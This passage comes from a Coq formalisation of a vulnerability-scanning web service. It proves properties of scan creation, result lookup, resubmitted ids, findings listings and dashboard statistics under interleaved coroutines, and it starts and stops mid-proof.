  triple (open_scan (rq_id r) before [])
    (background_scan env r)
    (λ _ w, still_open_scan (rq_id r) before w ∨ closed_scan (rq_id r) before w)
    (λ _ w, still_open_scan (rq_id r) before w).
Proof.
  assert (∀ added A (m : M A) (Q : A → Prop),
            keeps (open_scan (rq_id r) before added) m Q →
            triple (open_scan (rq_id r) before added) m
              (λ a w, open_scan (rq_id r) before added w ∧ Q a)
              (λ _ w, still_open_scan (rq_id r) before w)) as step.
  { intros added A m Q Hm. eapply keeps_triple; [exact Hm | done |].
    intros e w Hw. by exists added. }
  assert (∀ added A (m : M A) (Q : A → Prop),
            keeps (open_scan (rq_id r) before added) m Q →
            triple (open_scan (rq_id r) before added) m
              (λ a w, open_scan (rq_id r) before added w)
              (λ _ w, still_open_scan (rq_id r) before w)) as step'.
  { intros added A m Q Hm. eapply triple_conseq; [apply (step added A m Q Hm)|..]; try done.
    by intros a w [? _]. }
  unfold background_scan. apply triple_try with (E' := λ _ w, still_open_scan (rq_id r) before w).
  - eapply triple_bind;
      [eapply step', keeps_now_framed, open_scan_framed|]. intros started.
    eapply triple_bind.
    { eapply triple_conseq;
        [apply (triple_update_open [] "running" (set_running started)); done
        | done | done |].
      intros e w Hw. by exists []. }
    intros ?.
    eapply triple_bind;
      [eapply step', keeps_now_framed, open_scan_framed|]. intros start_time.
    eapply triple_bind;
      [eapply step, keeps_perform_framed, open_scan_framed|]. intros vs.
    apply triple_conseq with
      (P' := λ w, open_scan (rq_id r) before [] w ∧ Forall (raw_finding (rq_id r)) vs)
      (Q' := λ _ w, still_open_scan (rq_id r) before w ∨ closed_scan (rq_id r) before w)
      (E' := λ _ w, still_open_scan (rq_id r) before w); try done.
    apply triple_pure. intros Hvs.
    eapply triple_bind with (Q := λ analyzed w, open_scan (rq_id r) before analyzed w).
    { apply (triple_for_each (raw_finding (rq_id r))
               (λ analyzed w, open_scan (rq_id r) before analyzed w)); [done|].
      intros acc v (_ & Hsid & _).
      eapply triple_bind;
        [eapply step, keeps_analyze_framed, open_scan_framed|]. intros v'.
      apply triple_pure. intros Hv'.
      eapply triple_bind.
      { eapply triple_conseq;
          [apply (triple_insert_open acc v'); by rewrite Hv' | done | done |].
        intros e w Hw. by exists acc. }
      intros ?. by intros w Hw. }
    intros analyzed.
    eapply triple_bind;
      [eapply step', keeps_now_framed, open_scan_framed|]. intros end_time.
    eapply triple_bind; [eapply step', keeps_tally|]. intros counts.
    eapply triple_bind.
    { destruct analyzed; eapply step' with (Q := λ _, True);
        [by apply keeps_ret | apply keeps_ask_framed, open_scan_framed]. }
    intros summary. intros w ((d & Hd & Hs) & Hb & Ha). unfold update_scan_result.
    destruct (store_ok env (ticks w));
      [|exists analyzed; repeat split; eauto].
    rewrite Hd. right. eexists _, analyzed. simpl.
    rewrite find_one_update_first, Hd by done. simpl. by repeat split.
  - intros ?. intros w [added Hw]. revert w Hw.
    change (triple (open_scan (rq_id r) before added)
              (failed_at <- now env ;;
               update_scan_result env (rq_id r) (set_failed failed_at))
              (λ _ w, still_open_scan (rq_id r) before w ∨ closed_scan (rq_id r) before w)
              (λ _ w, still_open_scan (rq_id r) before w)).
    eapply triple_bind;
      [eapply (step' added), keeps_now_framed, open_scan_framed|]. intros failed_at.
    eapply triple_conseq;
      [apply (triple_update_open added "failed" (set_failed failed_at)); done
      | done | |].
    + intros ? w Hw. left. by exists added.
    + intros ? w Hw. by exists added.
Qed.

End CompletedTotal.

Lemma create_scan_opens (env : Env) (r : ScanRequest) (before : list Vulnerability) :
  triple (λ w, find_one (rq_id r) (db_scan_results w) = None
               ∧ db_vulnerabilities w = before)
    (create_scan env r)
    (λ _, open_scan (rq_id r) before [])
    (λ _ w, find_one (rq_id r) (db_scan_results w) = None).
Proof.
  intros w [Hfresh Hb].
  unfold create_scan, bind, insert_scan, fresh_uuid, insert_scan_result, ret.
  destruct (store_ok env (ticks w)); simpl; [|done].
  destruct (store_ok env (S (S (ticks w)))); simpl; [|done].
  split; [|by rewrite app_nil_r].
  eexists. split; [by apply find_one_snoc|]. done.
Qed.

Lemma filter_all {A} (P : A → Prop) `{∀ x, Decision (P x)} (l : list A) :
  Forall P l → filter P l = l.
Proof.
  induction 1 as [|x l Hx _ IH]; [done|]. by rewrite filter_cons, decide_True, IH.
Qed.

Lemma filter_none {A} (P : A → Prop) `{∀ x, Decision (P x)} (l : list A) :
  Forall (λ x, ¬ P x) l → filter P l = [].
Proof.
  induction 1 as [|x l Hx _ IH]; [done|]. by rewrite filter_cons, decide_False, IH.
Qed.

(** X7: for a scan submitted under an id that has no record yet, a record
    that ends as completed has as its total the number of findings the scan
    appended to the store, all carrying its scan id; if no finding carried
    that id before and the total is at most 1000, the listing of the scan
    returns exactly these findings, in some order. *)
Theorem completed_total_counts_stored_findings
    (env : Env) (r : ScanRequest) (w : World) (d : ScanResult) :
  find_one (rq_id r) (db_scan_results w) = None →
  find_one (rq_id r) (db_scan_results (scan_lifecycle env r w).2) = Some d →
  status d = "completed" →
  ∃ added,
    db_vulnerabilities (scan_lifecycle env r w).2 = db_vulnerabilities w ++ added
    ∧ total_vulnerabilities d = Z.of_nat (length added)
    ∧ Forall (λ v, v_scan_id v = rq_id r) added
    ∧ (Forall (λ v, v_scan_id v ≠ rq_id r) (db_vulnerabilities w) →
       length added ≤ 1000 →
       find_sorted (rq_id r) (db_vulnerabilities (scan_lifecycle env r w).2) ≡ₚ added).
Proof.
  intros Hfresh Hd Hs.
  assert (triple (λ w', find_one (rq_id r) (db_scan_results w') = None
                        ∧ db_vulnerabilities w' = db_vulnerabilities w)
            (scan_lifecycle env r)
            (λ _ w', (find_one (rq_id r) (db_scan_results w') = None
                      ∨ still_open_scan (rq_id r) (db_vulnerabilities w) w')
                     ∨ closed_scan (rq_id r) (db_vulnerabilities w) w')
            (λ _ w', find_one (rq_id r) (db_scan_results w') = None
                     ∨ still_open_scan (rq_id r) (db_vulnerabilities w) w')) as Ht.
  { unfold scan_lifecycle.
    eapply triple_bind with (Q := λ _, open_scan (rq_id r) (db_vulnerabilities w) []).
    - eapply triple_conseq;
        [apply (create_scan_opens env r (db_vulnerabilities w)) | done | done |].
      intros e w' Hw'. by left.
    - intros ?. eapply triple_conseq;
        [apply (background_scan_closes env r (db_vulnerabilities w)) | done | |].
      + intros ? w' [Hw'|Hw']; [left; by right | by right].
      + intros ? w' Hw'. by right. }
  specialize (Ht w (conj Hfresh eq_refl)).
  assert (closed_scan (rq_id r) (db_vulnerabilities w) (scan_lifecycle env r w).2) as Hc.
  { destruct (scan_lifecycle env r w) as [[a|e] w']; simpl in *.
    - destruct Ht as [[Hn|(added & (d' & Hd' & Hs') & _)]|Hc]; [congruence| |done].
      congruence.
    - destruct Ht as [Hn|(added & (d' & Hd' & Hs') & _)]; congruence. }
  destruct Hc as (d' & added & Hd' & _ & Htot & Hadd & Hall).
  assert (d' = d) as -> by congruence.
  exists added. split; [done|]. split; [done|]. split; [done|].
  intros Hold Hlen. unfold find_sorted. rewrite Hadd, filter_app.
  rewrite (filter_none _ _ Hold), (filter_all _ _ Hall). simpl.
  rewrite take_ge.
  - apply merge_sort_Permutation.
  - by rewrite (Permutation_length (merge_sort_Permutation _ _)).
Qed.

Lemma completed_total_counts_stored_findings_witness :
  let w' := (scan_lifecycle demo_env demo_request initial_world).2 in
  let d := default no_result (find_one "scan-1" (db_scan_results w')) in
  status d = "completed"
  ∧ total_vulnerabilities d = 6%Z
  ∧ ∃ added,
      db_vulnerabilities w' = db_vulnerabilities initial_world ++ added
      ∧ total_vulnerabilities d = Z.of_nat (length added).
Proof.
  intros w' d. split; [reflexivity|]. split; [reflexivity|].
  destruct (completed_total_counts_stored_findings demo_env demo_request initial_world d)
    as (added & Hadd & Htot & _).
  - reflexivity.
  - by vm_compute.
  - reflexivity.
  - by exists added.
Defined.

(** ** Looking a scan up *)

(** X8: for an id without a record, [get_scan_result] answers 404 before the
    scan is submitted; once [create_scan] has returned, it serves the pending
    record of the scan, with zero counts and no score, summary, duration or
    dates yet. *)
Theorem get_scan_result_after_submit
    (env : Env) (r r' : ScanRequest) (w w1 : World) :
  find_one (rq_id r) (db_scan_results w) = None →
  create_scan env r w = (Ok r', w1) →
  r' = r
  ∧ (store_ok env (ticks w) = true →
     get_scan_result env (rq_id r) w
     = (Refused (HTTPException 404 "Scan result not found"), tick w))
  ∧ (store_ok env (ticks w1) = true →
     ∃ fresh_id,
       get_scan_result env (rq_id r) w1
       = (Served (pending_result fresh_id (rq_id r)), tick w1)).
Proof.
  intros Hfresh Hrun.
  unfold create_scan, bind, insert_scan, fresh_uuid, insert_scan_result, ret in Hrun.
  destruct (store_ok env (ticks w)) eqn:H0; simpl in Hrun; [|done].
  destruct (store_ok env (S (S (ticks w)))) eqn:H2; simpl in Hrun; [|done].
  injection Hrun as <- <-. split; [done|]. split.
  - intros _. unfold get_scan_result. by rewrite H0, Hfresh.
  - intros H3. unfold get_scan_result. rewrite H3. simpl.
    rewrite (find_one_snoc (rq_id r) _ (pending_result _ (rq_id r)) Hfresh eq_refl).
    by eexists.
Qed.

Lemma get_scan_result_after_submit_witness :
  ∃ fresh_id,
    get_scan_result demo_env "scan-1" (create_scan demo_env demo_request initial_world).2
    = (Served (pending_result fresh_id "scan-1"),
       tick (create_scan demo_env demo_request initial_world).2).
Proof.
  destruct (get_scan_result_after_submit demo_env demo_request demo_request initial_world
              (create_scan demo_env demo_request initial_world).2 eq_refl eq_refl)
    as (_ & _ & H).
  exact (H eq_refl).
Defined.

(** ** An id submitted twice *)

Lemma update_first_shadowed (sid : string) (patch : ScanResult → ScanResult)
    (front : list ScanResult) (d : ScanResult) :
  is_Some (find_one sid front) →
  update_first sid patch (front ++ [d]) = update_first sid patch front ++ [d].
Proof.
  induction front as [|x front IH]; simpl; [by intros [? ?]|].
  destruct (String.eqb (sr_scan_id x) sid); [done|]. intros H. by rewrite IH.
Qed.

Lemma length_update_first (sid : string) (patch : ScanResult → ScanResult)
    (l : list ScanResult) :
  length (update_first sid patch l) = length l.
Proof.
  induction l as [|x l IH]; simpl; [done|].
  destruct (String.eqb (sr_scan_id x) sid); simpl; by rewrite ?IH.
Qed.

Lemma shadowed_stable (sid fresh_id : string) (n : nat) : stable (shadowed sid fresh_id n).
Proof. intros w w' Hr _ (front & Hf & Hn & Hs). exists front. by rewrite Hr. Qed.

Lemma keeps_shadowed_update (env : Env) (sid fresh_id : string) (n : nat)
    (patch : ScanResult → ScanResult) :
  (∀ d, sr_scan_id (patch d) = sr_scan_id d) →
  keeps (shadowed sid fresh_id n) (update_scan_result env sid patch) (λ _, True).
Proof.
  intros Hp w (front & Hf & Hn & Hs). unfold update_scan_result.
  destruct (store_ok env (ticks w)); [|by exists front].
  destruct (find_one sid (db_scan_results w)); [|split; [by exists front | done]].
  split; [|done]. exists (update_first sid patch front). simpl.
  rewrite Hf, update_first_shadowed, length_update_first, find_one_update_first by done.
  repeat split; [done|]. destruct Hs as [x ->]. by eexists.
Qed.

(** X9: when a scan is submitted under an id that already has a record, the
    new pending record is appended behind it and stays pending for good: all
    status writes of the new scan go to the older record, which is also the
    one a lookup by that id keeps returning. *)
Theorem resubmitted_id_is_shadowed
    (env : Env) (r r' : ScanRequest) (w w1 : World) :
  is_Some (find_one (rq_id r) (db_scan_results w)) →
  create_scan env r w = (Ok r', w1) →
  ∃ fresh_id front,
    db_scan_results w1 = db_scan_results w ++ [pending_result fresh_id (rq_id r)]
    ∧ find_one (rq_id r) (db_scan_results w1) = find_one (rq_id r) (db_scan_results w)
    ∧ db_scan_results (background_scan env r w1).2
      = front ++ [pending_result fresh_id (rq_id r)]
    ∧ length front = length (db_scan_results w)
    ∧ find_one (rq_id r) (db_scan_results (background_scan env r w1).2)
      = find_one (rq_id r) front
    ∧ is_Some (find_one (rq_id r) front).
Proof.
  intros Hold Hrun.
  unfold create_scan, bind, insert_scan, fresh_uuid, insert_scan_result, ret in Hrun.
  destruct (store_ok env (ticks w)) eqn:H0; simpl in Hrun; [|done].
  destruct (store_ok env (S (S (ticks w)))) eqn:H2; simpl in Hrun; [|done].
  injection Hrun as <- <-.
  set (fresh_id := uuid4 env (S (ticks w))).
  set (w1 := tick _).
  assert (∀ front d, is_Some (find_one (rq_id r) front) →
            find_one (rq_id r) (front ++ [d]) = find_one (rq_id r) front) as Hfind.
  { intros front d. induction front as [|x front IH]; simpl; [by intros [? ?]|].
    destruct (String.eqb (sr_scan_id x) (rq_id r)); [done | exact IH]. }
  assert (shadowed (rq_id r) fresh_id (length (db_scan_results w)) w1) as Hsh.
  { by exists (db_scan_results w). }
  assert (keeps (shadowed (rq_id r) fresh_id (length (db_scan_results w)))
            (background_scan env r) (λ _, True)) as Hk.
  { apply keeps_background_scan_general; [apply shadowed_stable|..]; intros;
      by apply keeps_shadowed_update. }
  specialize (Hk w1 Hsh).
  assert (shadowed (rq_id r) fresh_id (length (db_scan_results w))
            (background_scan env r w1).2) as (front & Hf & Hn & Hs).
  { destruct (background_scan env r w1) as [[a|e] w2]; simpl; [by destruct Hk | done]. }
  exists fresh_id, front. split; [done|]. split; [by apply Hfind|].
  split; [done|]. split; [done|]. split; [|done]. rewrite Hf. by apply Hfind.
Qed.

Lemma resubmitted_id_is_shadowed_witness :
  is_Some (find_one "scan-1" (db_scan_results demo_world))
  ∧ ∃ fresh_id front,
      db_scan_results
        (background_scan demo_env demo_request
           (create_scan demo_env demo_request demo_world).2).2
      = front ++ [pending_result fresh_id (rq_id demo_request)]
      ∧ length front = length (db_scan_results demo_world).
Proof.
  assert (is_Some (find_one (rq_id demo_request) (db_scan_results demo_world))) as Hold.
  { vm_compute. by eexists. }
  split; [exact Hold|].
  assert (create_scan demo_env demo_request demo_world
          = (Ok demo_request, (create_scan demo_env demo_request demo_world).2)) as Hrun.
  { vm_compute. reflexivity. }
  destruct (resubmitted_id_is_shadowed demo_env demo_request demo_request demo_world
              _ Hold Hrun) as (fresh_id & front & _ & _ & H3 & H4 & _).
  exists fresh_id, front. exact (conj H3 H4).
Defined.

Example resubmitted_id_statuses :
  status <$> db_scan_results
               (background_scan demo_env demo_request
                  (create_scan demo_env demo_request demo_world).2).2
  = ["completed"; "pending"].
Proof. vm_compute. reflexivity. Qed.

(** ** Listing the requests *)

#[global] Instance newer_first_total : Total newer_first.
Proof. intros a b. unfold newer_first. lia. Qed.

#[global] Instance newer_first_trans : Transitive newer_first.
Proof. intros a b c. unfold newer_first. lia. Qed.

(** X10: [get_scans] never changes the store and lets a store fault through
    unhandled; otherwise it serves the stored requests newest first, cut
    after 100 of them -- all of them, in some order, when the store holds at
    most 100. *)
Theorem get_scans_newest_first (env : Env) (w : World) :
  match get_scans env w with
  | (Served l, w') =>
      same_store w w'
      ∧ length l = min 100 (length (db_scans w))
      ∧ (∃ rest, l ++ rest ≡ₚ db_scans w
                 ∧ StronglySorted (λ a b, (rq_created_at b ≤ rq_created_at a)%Z) (l ++ rest))
      ∧ (length (db_scans w) ≤ 100 → l ≡ₚ db_scans w)
  | (Refused e, w') =>
      e = Uncaught StoreError ∧ store_ok env (ticks w) = false ∧ same_store w w'
  end.
Proof.
  unfold get_scans. destruct (store_ok env (ticks w)); [|done].
  pose proof (merge_sort_Permutation newer_first (db_scans w)) as Hperm.
  split; [done|]. split.
  - by rewrite length_take, (Permutation_length Hperm).
  - split.
    + exists (drop 100 (merge_sort newer_first (db_scans w))). rewrite take_drop.
      split; [done|]. apply (StronglySorted_merge_sort newer_first).
    + intros Hlen. rewrite take_ge; [done|]. by rewrite (Permutation_length Hperm).
Qed.

Example get_scans_returns_the_submitted_request :
  match get_scans demo_env demo_world with
  | (Served l, _) => rq_id <$> l
  | _ => []
  end = ["scan-1"].
Proof. vm_compute. reflexivity. Qed.

(** ** The listing of a scan's findings *)

(** X11: the listing of a scan never changes the store, returns at most
    1000 findings, all stored ones with the requested scan id, and for a scan
    id without stored findings -- an unknown id included -- it returns the
    empty list rather than an error; it only raises on a store fault. *)
Theorem listing_only_reads (env : Env) (sid : string) (w : World) :
  match get_scan_vulnerabilities env sid w with
  | (Ok l, w') =>
      same_store w w'
      ∧ length l ≤ 1000
      ∧ Forall (λ v, v_scan_id v = sid ∧ v ∈ db_vulnerabilities w) l
      ∧ (l = [] ↔ Forall (λ v, v_scan_id v ≠ sid) (db_vulnerabilities w))
  | (Raise e, w') =>
      e = StoreError ∧ store_ok env (ticks w) = false ∧ same_store w w'
  end.
Proof.
  unfold get_scan_vulnerabilities. destruct (store_ok env (ticks w)); [|done].
  unfold find_sorted.
  set (scan := filter (λ v, v_scan_id v = sid) (db_vulnerabilities w)).
  pose proof (merge_sort_Permutation severity_le scan) as Hperm.
  split; [done|]. split; [rewrite length_take; lia|]. split.
  - apply Forall_take. rewrite Hperm. apply Forall_forall. intros v Hv.
    by apply list_elem_of_filter in Hv.
  - split.
    + intros Hnil. apply Forall_forall. intros v Hv Hsid.
      assert (v ∈ scan) as Hin by (by apply list_elem_of_filter).
      rewrite <- Hperm in Hin.
      destruct (merge_sort severity_le scan) as [|x l']; [by apply elem_of_nil in Hin|].
      simpl in Hnil. discriminate.
    + intros Hnone. unfold scan. rewrite (filter_none _ _ Hnone). reflexivity.
Qed.

(** ** The dashboard *)

#[global] Instance later_first_total : Total later_first.
Proof.
  intros a b. unfold later_first.
  destruct (completed_at a), (completed_at b); simpl; lia.
Qed.

#[global] Instance later_first_trans : Transitive later_first.
Proof.
  intros a b c. unfold later_first.
  destruct (completed_at a), (completed_at b), (completed_at c); simpl; lia.
Qed.

Lemma graded_counts (l : list Vulnerability) :
  Forall graded l →
  (count_sev "critical" l + count_sev "high" l + count_sev "medium" l)%Z
  = Z.of_nat (length l)
  ∧ count_sev "low" l = 0%Z.
Proof.
  intros H3. unfold graded in H3.
  assert (count_sev "low" l = 0%Z) as Hlow.
  { apply count_sev_absent. eapply Forall_impl; [exact H3|].
    intros v Hv. simpl in Hv. set_unfold in Hv.
    destruct Hv as [Hv|[Hv|[Hv|[]]]]; rewrite Hv; done. }
  split; [|done]. rewrite <- (count_sev_total l), Hlow; [lia|].
  eapply Forall_impl; [exact H3|]. intros v Hv. simpl in Hv. simpl.
  set_unfold. tauto.
Qed.

(** *** What the other coroutines do *)

Lemma interference_refl (w : World) : interference w w.
Proof. split; exists []; by rewrite app_nil_r. Qed.

Lemma interference_trans (w1 w2 w3 : World) :
  interference w1 w2 → interference w2 w3 → interference w1 w3.
Proof.
  intros [[s1 Hs1] (v1 & Hv1 & Hg1)] [[s2 Hs2] (v2 & Hv2 & Hg2)]. split.
  - exists (s1 ++ s2). by rewrite Hs2, Hs1, app_assoc.
  - exists (v1 ++ v2). split; [by rewrite Hv2, Hv1, app_assoc|].
    apply Forall_app. done.
Qed.

Lemma interference_same (w w' : World) :
  db_scans w' = db_scans w → db_vulnerabilities w' = db_vulnerabilities w →
  interference w w'.
Proof. intros Hs Hv. split; exists []; by rewrite app_nil_r. Qed.

Lemma interference_tick (w : World) : interference w (tick w).
Proof. by apply interference_same. Qed.

Lemma interference_requests (w w' : World) :
  interference w w' → length (db_scans w) ≤ length (db_scans w').
Proof. intros [[s ->] _]. rewrite length_app. lia. Qed.

Lemma interference_findings (w w' : World) :
  interference w w' → length (db_vulnerabilities w) ≤ length (db_vulnerabilities w').
Proof. intros [_ (v & -> & _)]. rewrite length_app. lia. Qed.

Lemma interference_count (k : string) (w w' : World) :
  interference w w' →
  (count_sev k (db_vulnerabilities w) ≤ count_sev k (db_vulnerabilities w'))%Z.
Proof.
  intros [_ (v & -> & _)]. unfold count_sev. rewrite filter_app, length_app. lia.
Qed.

Lemma interference_graded (w w' : World) :
  interference w w' →
  Forall graded (db_vulnerabilities w) → Forall graded (db_vulnerabilities w').
Proof. intros [_ (v & -> & Hg)] Hw. apply Forall_app. done. Qed.

(** Each write of the program to the store is such a step, a finding being
    written after it was labelled. *)
Lemma insert_scan_interference (env : Env) (r : ScanRequest) (w : World) :
  interference w (insert_scan env r w).2.
Proof.
  unfold insert_scan. destruct (store_ok env (ticks w)); simpl;
    [|apply interference_tick].
  split; [by exists [r] | exists []; by rewrite app_nil_r].
Qed.

Lemma insert_scan_result_interference (env : Env) (d : ScanResult) (w : World) :
  interference w (insert_scan_result env d w).2.
Proof.
  unfold insert_scan_result. destruct (store_ok env (ticks w)); by apply interference_same.
Qed.

Lemma update_scan_result_interference (env : Env) (sid : string)
    (patch : ScanResult → ScanResult) (w : World) :
  interference w (update_scan_result env sid patch w).2.
Proof.
  unfold update_scan_result. destruct (store_ok env (ticks w)); [|by apply interference_same].
  destruct (find_one sid (db_scan_results w)); by apply interference_same.
Qed.

Lemma insert_vulnerability_interference (env : Env) (v : Vulnerability) (w : World) :
  graded v → interference w (insert_vulnerability env v w).2.
Proof.
  intros Hv. unfold insert_vulnerability. destruct (store_ok env (ticks w)); simpl;
    [|apply interference_tick].
  split; [exists []; by rewrite app_nil_r|]. exists [v]. split; [done|]. by constructor.
Qed.

(** So is each run of a coroutine that writes to the store. *)
Lemma create_scan_interference (env : Env) (r : ScanRequest) (w : World) :
  interference w (create_scan env r w).2.
Proof.
  unfold create_scan, bind.
  pose proof (insert_scan_interference env r w) as H1.
  destruct (insert_scan env r w) as [[[]|e] w1]; simpl in *; [|done].
  unfold fresh_uuid. simpl.
  pose proof (insert_scan_result_interference env
                (pending_result (uuid4 env (ticks w1)) (rq_id r)) (tick w1)) as H2.
  destruct (insert_scan_result env _ (tick w1)) as [[[]|e] w2]; simpl in *;
    (eapply interference_trans; [exact H1|]);
    (eapply interference_trans; [apply interference_tick | exact H2]).
Qed.

Lemma background_scan_interference (env : Env) (r : ScanRequest) (w : World) :
  interference w (background_scan env r w).2.
Proof.
  destruct (background_scan_findings env r w) as [Hs (added & Hadd & Hall)].
  split; [exists []; by rewrite app_nil_r|]. exists added. split; [done|].
  eapply Forall_impl; [exact Hall|]. intros v [He _]. by apply enriched_severity.
Qed.

Lemma scan_lifecycle_interference (env : Env) (r : ScanRequest) (w : World) :
  interference w (scan_lifecycle env r w).2.
Proof.
  unfold scan_lifecycle, bind.
  pose proof (create_scan_interference env r w) as H1.
  destruct (create_scan env r w) as [[a|e] w1]; simpl in *; [|done].
  eapply interference_trans; [exact H1 | apply background_scan_interference].
Qed.

Lemma reachable_interference (env : Env) (w : World) :
  reachable env w → interference initial_world w.
Proof.
  induction 1 as [|r w _ IH|r w _ IH|sid w _ IH].
  - apply interference_refl.
  - eapply interference_trans; [exact IH | apply create_scan_interference].
  - eapply interference_trans; [exact IH | apply background_scan_interference].
  - eapply interference_trans; [exact IH|]. unfold get_scan_vulnerabilities.
    destruct (store_ok env (ticks w)); apply interference_tick.
Qed.

(** *** The statistics *)

(** One awaited count. *)
Lemma await_count {A} (env : Env) (others : nat → World → World) (k : nat)
    (collection : World → list A) (P : A → Prop) `{∀ x, Decision (P x)} (w : World) :
  await others k (count_documents env collection P) w
  = (if store_ok env (ticks (others (2 * k) w))
     then Ok (Z.of_nat (length (filter P (collection (others (2 * k) w)))))
     else Raise StoreError,
     others (2 * k + 1) (tick (others (2 * k) w))).
Proof. unfold await, count_documents. by destruct (store_ok env _). Qed.

(** The awaited listing of the recent scans. *)
Lemma await_recent (env : Env) (others : nat → World → World) (k : nat) (w : World) :
  await others k (recent_completed env) w
  = (if store_ok env (ticks (others (2 * k) w))
     then Ok (take 5 (merge_sort later_first
                        (filter (λ d, status d = "completed")
                           (db_scan_results (others (2 * k) w)))))
     else Raise StoreError,
     others (2 * k + 1) (tick (others (2 * k) w))).
Proof. unfold await, recent_completed. by destruct (store_ok env _). Qed.


Lemma await_links (others : nat → World → World) (k : nat) (w : World) :
  (∀ n w1, interference w1 (others n w1)) →
  interference w (others (2 * k) w)
  ∧ interference (others (2 * k) w) (others (2 * k + 1) (tick (others (2 * k) w))).
Proof.
  intros Hothers. split; [apply Hothers|].
  eapply interference_trans; [apply interference_tick | apply Hothers].
Qed.

Lemma same_store_refl (w : World) : same_store w w.
Proof. by split. Qed.

Lemma same_store_trans (w1 w2 w3 : World) :
  same_store w1 w2 → same_store w2 w3 → same_store w1 w3.
Proof. intros (? & ? & ?) (? & ? & ?). split; [|split]; congruence. Qed.

Lemma same_store_tick (w : World) : same_store w (tick w).
Proof. by split. Qed.

(** One step of the handler: the next read is awaited, the worlds it is
    answered in and resumed in are named, and the case of a store fault is
    closed by [refused]. *)
Ltac await_step Hothers w r wn La Lb E refused :=
  first [rewrite await_count | rewrite await_recent];
  match goal with
  | |- context [store_ok _ (ticks (?others (2 * ?k) w))] =>
      destruct (await_links others k w Hothers) as [La Lb];
      remember (others (2 * k) w) as r;
      remember (others (2 * k + 1) (tick r)) as wn
  end;
  match goal with
  | |- context [store_ok ?env (ticks r)] =>
      destruct (store_ok env (ticks r)) eqn:E; cbv beta iota; [|refused]
  end.

(** A goal [interference x y] from the links of a chain from [x] to [y]. *)
Ltac along_the_chain :=
  first [ apply interference_refl
        | match goal with
          | L : interference ?x _ |- interference ?x _ =>
              apply (interference_trans _ _ _ L); along_the_chain
          end ].

(** A goal [same_store w w'] where [w'] is [w] after steps that leave the
    store alone. *)
Ltac same_store_chain Hsame :=
  repeat first [ apply same_store_refl
               | eapply same_store_trans; [|apply Hsame]
               | eapply same_store_trans; [|apply same_store_tick] ].

(** The case of a store fault in [get_dashboard_stats]. *)
Ltac dashboard_refused :=
  split; [reflexivity|]; split; [along_the_chain|];
  split; [by eapply not_reliable|];
  let Hsame := fresh "Hsame" in intros Hsame; subst; same_store_chain Hsame.

(** X12: [get_dashboard_stats] awaits its eight reads one by one, and the
    other coroutines run in between.  Whatever they do, as long as they only
    append requests and labelled findings (which the endpoints and the
    background task do): every failure is answered with status 500; and what
    is served lies between the store at the call and the store at the
    return: the number of requests and the number of findings are at least
    those at the call, the critical, high and medium counts add up to at
    least the number of findings served and to at most the number of
    findings stored at the return -- so the three counts add up to the total
    exactly when no finding was stored meanwhile --, the low count is zero,
    and the recent scans are at most five completed records, latest first.
    When the result records are left alone meanwhile, the number of
    completed scans is that of the store and the recent scans are five of
    its completed records, or all of them. *)
Theorem dashboard_stats_interleaved (env : Env) (others : nat → World → World)
    (w : World) :
  interference initial_world w →
  (∀ n w0, interference w0 (others n w0)) →
  match get_dashboard_stats env others w with
  | (Served s, w') =>
      interference w w'
      ∧ (Z.of_nat (length (db_scans w)) ≤ total_scans s
         ≤ Z.of_nat (length (db_scans w')))%Z
      ∧ (Z.of_nat (length (db_vulnerabilities w)) ≤ ds_total_vulnerabilities s)%Z
      ∧ (ds_total_vulnerabilities s ≤ sd_critical s + sd_high s + sd_medium s)%Z
      ∧ (sd_critical s + sd_high s + sd_medium s
         ≤ Z.of_nat (length (db_vulnerabilities w')))%Z
      ∧ sd_low s = 0%Z
      ∧ length (recent_scans s) ≤ 5
      ∧ Forall (λ d, status d = "completed") (recent_scans s)
      ∧ StronglySorted later_first (recent_scans s)
      ∧ ((∀ n w0, same_store w0 (others n w0)) → same_store w w')
      ∧ ((∀ n w0, db_scan_results (others n w0) = db_scan_results w0) →
         completed_scans s
         = Z.of_nat (length (filter (λ d, status d = "completed") (db_scan_results w)))
         ∧ length (recent_scans s) = min 5 (Z.to_nat (completed_scans s))
         ∧ Forall (λ d, d ∈ db_scan_results w) (recent_scans s))
  | (Refused e, w') =>
      e = HTTPException 500 "Failed to get dashboard statistics"
      ∧ interference w w' ∧ ¬ reliable env
      ∧ ((∀ n w0, same_store w0 (others n w0)) → same_store w w')
  end.
Proof.
  intros Hw Hothers.
  assert (Forall graded (db_vulnerabilities w)) as Hg.
  { destruct Hw as [_ (v & Hv & Hg)]. simpl in Hv. by rewrite Hv. }
  unfold get_dashboard_stats, try_except_handler, from_M, refuse, ret, bind.
  await_step Hothers w r1 w1 A1 B1 E1 dashboard_refused.
  await_step Hothers w1 r2 w2 A2 B2 E2 dashboard_refused.
  await_step Hothers w2 r3 w3 A3 B3 E3 dashboard_refused.
  await_step Hothers w3 r4 w4 A4 B4 E4 dashboard_refused.
  await_step Hothers w4 r5 w5 A5 B5 E5 dashboard_refused.
  await_step Hothers w5 r6 w6 A6 B6 E6 dashboard_refused.
  await_step Hothers w6 r7 w7 A7 B7 E7 dashboard_refused.
  await_step Hothers w7 r8 w8 A8 B8 E8 dashboard_refused.
  cbn [total_scans completed_scans ds_total_vulnerabilities sd_critical sd_high
       sd_medium sd_low recent_scans].
  rewrite !(filter_all (λ _, True)) by (by apply Forall_true).
  assert (interference w w8) as Hend by along_the_chain.
  assert (interference w r1) as Hr1 by along_the_chain.
  assert (interference r1 w8) as Hr1' by along_the_chain.
  assert (interference w r3) as Hr3 by along_the_chain.
  assert (interference r3 r4) as H34 by along_the_chain.
  assert (interference r3 r5) as H35 by along_the_chain.
  assert (interference r3 r6) as H36 by along_the_chain.
  assert (interference r4 w8) as H4 by along_the_chain.
  assert (interference r5 w8) as H5 by along_the_chain.
  assert (interference r6 w8) as H6 by along_the_chain.
  assert (interference w r7) as Hr7 by along_the_chain.
  pose proof (graded_counts _ (interference_graded _ _ Hr3 Hg)) as [Hsum3 _].
  pose proof (graded_counts _ (interference_graded _ _ Hend Hg)) as [Hsum8 _].
  pose proof (graded_counts _ (interference_graded _ _ Hr7 Hg)) as [_ Hlow].
  pose proof (interference_requests _ _ Hr1).
  pose proof (interference_requests _ _ Hr1').
  pose proof (interference_findings _ _ Hr3).
  pose proof (interference_count "critical" _ _ H34).
  pose proof (interference_count "high" _ _ H35).
  pose proof (interference_count "medium" _ _ H36).
  pose proof (interference_count "critical" _ _ H4).
  pose proof (interference_count "high" _ _ H5).
  pose proof (interference_count "medium" _ _ H6).
  unfold count_sev in *.
  pose proof (merge_sort_Permutation later_first
                (filter (λ d, status d = "completed") (db_scan_results r8))) as Hperm.
